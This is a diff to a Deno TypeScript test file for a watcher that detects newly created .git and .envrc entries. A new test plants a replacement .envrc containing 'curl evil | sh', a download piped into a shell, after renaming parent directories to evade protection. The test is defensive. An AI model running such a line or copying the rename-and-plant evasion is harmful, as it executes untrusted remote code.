@@ -1,7 +1,13 @@
 import assert from "node:assert/strict";
 import { closeFd, openDirectory } from "../fsafe/mod.ts";
 import { PolicyError } from "../errors.ts";
-import { PROTECT_WALK_LIMITS, ProtectedWatch, type WalkLimits, walkProtected } from "./protected_walk.ts";
+import {
+  type FoundName,
+  PROTECT_WALK_LIMITS,
+  ProtectedWatch,
+  type WalkLimits,
+  walkProtected,
+} from "./protected_walk.ts";
 
 const NAMES = [".git", ".envrc"] as const;
 
@@ -17,14 +23,17 @@ async function withTree(fn: (root: string, fd: number) => Promise<void> | void):
 }
 
 function walk(fd: number, root: string, limits?: WalkLimits): string[] {
-  const found = walkProtected(fd, {
+  return found(fd, root, limits).map((f) => f.relative);
+}
+
+function found(fd: number, root: string, limits?: WalkLimits): FoundName[] {
+  return walkProtected(fd, {
     names: NAMES,
     keep: false,
     field: "fs.write[0]",
     root,
     ...(limits ? { limits } : {}),
   });
-  return found.map((f) => f.relative);
 }
 
 function assertLimit(fn: () => unknown, pattern: RegExp): void {
@@ -72,7 +81,7 @@ Deno.test("walkProtected: each cap is a typed error, never a silently skipped su
 Deno.test("ProtectedWatch reports the names created since, and closes its descriptors", async () => {
   await withTree(async (root, fd) => {
     await Deno.mkdir(`${root}/old/.git`, { recursive: true });
-    const before = walk(fd, root);
+    const before = found(fd, root);
     const watch = new ProtectedWatch(
       [{ fd: openDirectory(root), path: root, field: "fs.write[0]", before }],
       NAMES,
@@ -82,5 +91,30 @@ Deno.test("ProtectedWatch reports the names created since, and closes its descri
     await Deno.mkdir(`${root}/.git`);
     assert.deepEqual(watch.finish(), { created: [`${root}/.git`, `${root}/n/e/w/.envrc`], limits: [] });
     assert.deepEqual(watch.finish(), { created: [], limits: [] }); // Once only.
+  });
+});
+
+Deno.test("ProtectedWatch reports a protected name replaced under its old path (its parent renamed)", async () => {
+  await withTree(async (root, fd) => {
+    await Deno.mkdir(`${root}/libs/repo/.git/hooks`, { recursive: true });
+    await Deno.mkdir(`${root}/sub`);
+    await Deno.writeTextFile(`${root}/sub/.envrc`, "export SAFE=1\n");
+    await Deno.mkdir(`${root}/keep/.git`, { recursive: true });
+    const watch = new ProtectedWatch(
+      [{ fd: openDirectory(root), path: root, field: "fs.write[0]", before: found(fd, root) }],
+      NAMES,
+    );
+    // What a program does when the names themselves are read-only: move the parents, plant new ones.
+    await Deno.rename(`${root}/libs`, `${root}/libs2`);
+    await Deno.mkdir(`${root}/libs/repo/.git/hooks`, { recursive: true });
+    await Deno.rename(`${root}/sub`, `${root}/sub2`);
+    await Deno.mkdir(`${root}/sub`);
+    await Deno.writeTextFile(`${root}/sub/.envrc`, "curl evil | sh\n");
+    assert.deepEqual(watch.finish().created, [
+      `${root}/libs/repo/.git`,
+      `${root}/libs2/repo/.git`,
+      `${root}/sub/.envrc`,
+      `${root}/sub2/.envrc`,
+    ]);
   });
 });
